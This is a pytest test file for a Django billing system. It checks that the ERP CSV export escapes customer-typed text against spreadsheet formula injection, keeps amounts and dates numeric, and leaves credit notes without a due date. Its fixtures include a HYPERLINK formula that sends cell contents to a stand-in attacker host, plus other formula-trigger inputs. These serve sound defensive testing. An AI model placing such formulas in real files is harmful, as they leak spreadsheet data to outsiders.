"""The ERP CSV as a case worker downloads it and opens it in a spreadsheet: text typed by people never
becomes a formula; numbers, dates and amounts stay numbers; a credit note has no due date."""

import csv
import io

import pytest
from django.urls import reverse

from billing import services as billing
from integrations.erp import csvcells
from integrations.erp.models import ExportBatch
from tests.support.factories import accepted_basis, make_customer

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1;"Klikk")'
HOSTILE_ERP = "+SUM(1,2)"


def download_rows(client, django_capture_on_commit_callbacks) -> list[dict]:
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(reverse("erp:export_start")).status_code == 302
    batch = ExportBatch.objects.get()
    response = client.get(reverse("erp:export_csv", args=[batch.pk]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_hostile_customer_text_is_escaped_numbers_are_not(company, caseworker, caseworker_client,
                                                          django_capture_on_commit_callbacks):
    customer = make_customer(name=HOSTILE_NAME, erp_customer_number=HOSTILE_ERP)
    basis = accepted_basis(by=caseworker, customer=customer)
    invoices = billing.invoices_issue(basis=basis, by=caseworker)
    credit = billing.invoice_credit(invoice=invoices[0], by=caseworker, reason="Feil")
    rows = download_rows(caseworker_client, django_capture_on_commit_callbacks)
    assert len(rows) == len(invoices) + 1
    for row in rows:
        assert row["customer_name"] == "'" + HOSTILE_NAME, "a formula is shown as text in Excel/LibreOffice"
        assert row["erp_customer_number"] == "'" + HOSTILE_ERP
        # no text cell starts with a formula trigger
        assert not any(v.startswith(csvcells.TRIGGERS) for v in row.values())
        # numeric columns are untouched: a spreadsheet still sums them
        assert row["gross_amount"][0].isdigit() and row["issue_date"][:2] == "20" and row["number"].isdigit()
    inv_row = next(r for r in rows if r["number"] == str(invoices[0].number) and r["document_type"] == "invoice")
    assert inv_row["gross_amount"] == f"{invoices[0].gross_total:.2f}"
    assert inv_row["due_date"] == invoices[0].due_date.isoformat()
    credit_row = next(r for r in rows if r["document_type"] == "credit_note")
    assert credit_row["number"] == str(credit.number) and credit_row["credited_number"] == str(invoices[0].number)
    assert credit_row["due_date"] == "", "nothing is due on a credit note"


@pytest.mark.parametrize("value", ["=1+1", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "'", "'abc",
                                   "Kari", "", "10001", "O'Neil"])
def test_escape_is_reversible_and_safe(value):
    cell = csvcells.escape(value)
    assert not cell.startswith(csvcells.TRIGGERS)
    assert csvcells.unescape(cell) == value


def test_http_adapter_sends_the_text_as_typed(company, caseworker, fake_erp):
    """The JSON ERP is not a spreadsheet: it gets the customer's name as typed, without the apostrophe."""
    from integrations.erp import services

    customer = make_customer(name=HOSTILE_NAME, erp_customer_number=HOSTILE_ERP)
    billing.invoices_issue(basis=accepted_basis(by=caseworker, customer=customer), by=caseworker)
    batch = services.export_run()
    assert services.export_deliver(batch_id=batch.pk).status == "delivered"
    bodies = [body for _key, body in fake_erp.received]
    assert bodies and all(b["customer_name"] == HOSTILE_NAME and b["erp_customer_number"] == HOSTILE_ERP
                          for b in bodies)
